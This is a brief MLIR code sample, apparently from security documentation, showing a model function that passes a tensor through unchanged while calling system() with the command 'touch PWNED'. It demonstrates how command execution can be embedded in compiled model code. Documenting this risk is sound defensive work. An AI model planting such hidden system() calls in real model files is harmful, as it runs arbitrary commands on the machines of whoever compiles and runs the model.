// docs/security.md: a model that would run a shell command when compiled and run.
llvm.mlir.global internal constant @cmd("touch PWNED\00") {addr_space = 0 : i32}
llvm.func @system(!llvm.ptr) -> i32
func.func @m(%x: tensor<?x?x4xf32>) -> tensor<?x?x4xf32> {
  %p = llvm.mlir.addressof @cmd : !llvm.ptr
  %r = llvm.call @system(%p) : (!llvm.ptr) -> i32
  return %x : tensor<?x?x4xf32>
}
